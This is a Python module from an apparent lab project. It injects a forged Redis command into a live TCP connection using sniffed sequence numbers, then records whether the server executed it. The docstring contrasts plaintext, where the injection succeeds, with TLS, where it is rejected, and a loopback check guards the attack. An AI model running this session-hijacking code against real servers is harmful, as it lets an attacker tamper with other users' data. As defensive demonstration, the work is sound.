"""TCP injection: forge a RESP command into a live Redis connection with the right sequence numbers.

Plaintext: the server executes the forged command as if the victim had sent it, and the victim is
desynchronised (it reads the forged command's reply as the answer to its own next command).
TLS: the forged bytes are not a valid record under the session keys; the server's TLS layer rejects them
(wrong version number / bad record mac), drops the connection, and executes nothing.
"""

from __future__ import annotations

import secrets
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from lab.attacks.forge import send_as_client
from lab.attacks.safety import require_loopback
from lab.attacks.sniff import connection_ends, sniffing
from lab.attacks.victim import Victim
from lab.mitm.tamper import command
from lab.resp_reader import text

INJECTED_KEY = "injected-by-attacker"
VICTIM_KEY = "victim-balance"
VICTIM_TIMEOUT_S = 1.0


@dataclass(frozen=True)
class InjectionOutcome:
    transport: Literal["plaintext", "tls"]
    injected: tuple[str, ...]
    seq: int
    ack: int
    server_executed: bool  # the injected key was found on the server afterwards
    injected_key_value: str | None
    victim_expected: str
    victim_got: str | None  # what the victim's next command returned (None: it failed)
    victim_error: str | None
    # "in-sync": its next command got its own answer; "desynchronised": a wrong answer or none (its bytes now
    # overlap what the server already took from the attacker); "dropped": the server closed the connection.
    victim_state: Literal["in-sync", "desynchronised", "dropped"]

    @property
    def verdict(self) -> str:
        if self.server_executed:
            return "injected"
        return "rejected" if self.victim_error else "no-effect"


def _check_key(host: str, port: int, ca: Path | None, password: str | None, key: str) -> str | None:
    checker = Victim(host, port, ca, password)
    try:
        value = checker.call("GET", key)
        return None if value is None else text(value)
    finally:
        checker.close()


def inject(host: str, port: int, ca: Path | None = None, password: str | None = None,
           allow_non_loopback: bool = False) -> InjectionOutcome:
    """Open a victim connection to host:port, inject `SET injected-by-attacker <fresh marker>` into it, judge.

    The marker is new for every call, so a key left by an earlier run cannot pass for a success.
    """
    marker = "pwned-" + secrets.token_hex(4)
    require_loopback(host, allow_non_loopback=allow_non_loopback)
    # a key of its own per call: a value an earlier injection left (the plaintext case's, on the same
    # server) must never be shown as this one's
    key = f"{INJECTED_KEY}:{marker}"
    argv = ("SET", key, marker)
    with sniffing(port, host, allow_non_loopback) as packets:
        victim = Victim(host, port, ca, password, timeout=VICTIM_TIMEOUT_S)
        try:
            victim.call("SET", VICTIM_KEY, "100")
            time.sleep(0.2)  # idle connection: its last segments have reached the sniffer
            ends = connection_ends(packets, victim.local_port, port)
            send_as_client(ends, host, "PA", command([a.encode() for a in argv]), allow_non_loopback)
            time.sleep(0.2)
            got: str | None = None
            error = None
            state: Literal["in-sync", "desynchronised", "dropped"] = "in-sync"
            try:
                got = text(victim.call("GET", VICTIM_KEY))
                if got != "100":
                    state = "desynchronised"
            except TimeoutError as exc:
                error, state = f"{type(exc).__name__}: {exc}", "desynchronised"
            except OSError as exc:
                error, state = f"{type(exc).__name__}: {exc}", "dropped"
        finally:
            victim.close()
    value = _check_key(host, port, ca, password, key)
    return InjectionOutcome(
        transport="tls" if ca is not None else "plaintext", injected=argv, seq=ends.client_next_seq,
        ack=ends.server_next_seq, server_executed=value == marker, injected_key_value=value,
        victim_expected="100", victim_got=got, victim_error=error, victim_state=state,
    )
